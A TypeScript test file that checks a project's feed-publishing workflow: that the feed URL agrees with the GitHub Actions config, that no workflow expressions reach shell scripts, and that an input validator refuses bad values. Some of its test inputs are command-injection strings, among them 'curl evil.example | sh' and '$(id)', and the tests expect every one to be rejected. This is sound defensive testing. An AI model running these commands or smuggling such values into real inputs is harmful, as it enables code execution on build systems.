/** The release configuration that must agree with itself: the feed URL, the publish workflow, its inputs. */
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { SOURCE_FAMILIES } from '../../../lib/hazards/schema';
import { DEFAULT_FEED_URL, FEED_PUBLISH_PATH, FEED_SITE } from '../../../lib/hosts';

const root = path.resolve(__dirname, '../../..');
const workflow = readFileSync(path.join(root, '.github/workflows/publish-feed.yml'), 'utf8');

/** Every `run:` script of the workflow (inline or block), as text. */
function runScripts(yaml: string): string[] {
  const lines = yaml.split('\n');
  const scripts: string[] = [];
  for (let i = 0; i < lines.length; i++) {
    const match = /^(\s*)(?:- )?run:\s*(.*)$/.exec(lines[i]!);
    if (!match) continue;
    const indent = match[1]!.length;
    if (!/^[|>]/.test(match[2]!)) {
      scripts.push(match[2]!);
      continue;
    }
    const body: string[] = [];
    while (i + 1 < lines.length && (lines[i + 1]!.trim() === '' || lines[i + 1]!.search(/\S/) > indent))
      body.push(lines[++i]!);
    scripts.push(body.join('\n'));
  }
  return scripts;
}

describe('release configuration', () => {
  it('the default feed URL is where the workflow publishes the manifest', () => {
    const out = /--out (\S+)\s+--inputs-file/.exec(workflow)?.[1];
    const deployed = /upload-pages-artifact@\S+\s+with:\s+path:\s*(\S+)/.exec(workflow)?.[1];
    expect(out, 'build --out in the workflow').toBeDefined();
    expect(deployed, 'the Pages artifact path').toBeDefined();
    const published = `${path.posix.relative(deployed!, out!)}/manifest.json`;
    expect(FEED_PUBLISH_PATH).toBe(published);
    expect(DEFAULT_FEED_URL).toBe(`${FEED_SITE}/${published}`);
  });

  it('no workflow input or expression is pasted into a shell script (they arrive as environment variables)', () => {
    const scripts = runScripts(workflow);
    expect(scripts.length).toBeGreaterThan(5);
    for (const script of scripts) expect(script).not.toContain('${{');
  });

  it('the input check accepts a date and known sources, and refuses anything else before it reaches a command', () => {
    const check = (env: Record<string, string>) =>
      spawnSync('bash', [path.join(root, 'scripts/check-feed-inputs.sh')], {
        encoding: 'utf8',
        env: { PATH: process.env.PATH ?? '', ...env },
      });
    expect(check({ SINCE: '', ACCEPT_SHRINK: '' }).status).toBe(0);
    expect(check({ SINCE: '2026-01-31', ACCEPT_SHRINK: 'kr-safetykorea us-cpsc' }).status).toBe(0);
    const injected = check({ SINCE: '2026-01-31; curl evil.example | sh' });
    expect(injected.status).toBe(1);
    expect(injected.stderr).toContain("input 'since' must be a date YYYY-MM-DD");
    expect(check({ SINCE: '$(id)' }).status).toBe(1);
    expect(check({ ACCEPT_SHRINK: 'kr-safetykorea;id' }).status).toBe(1);
    expect(check({ ACCEPT_SHRINK: '*' }).status).toBe(1);
  });

  it('the input check knows exactly the source families the schema defines', () => {
    const script = readFileSync(path.join(root, 'scripts/check-feed-inputs.sh'), 'utf8');
    const listed = /^families='([^']*)'/m.exec(script)?.[1]?.split(' ');
    expect(listed).toEqual([...SOURCE_FAMILIES]);
  });
});
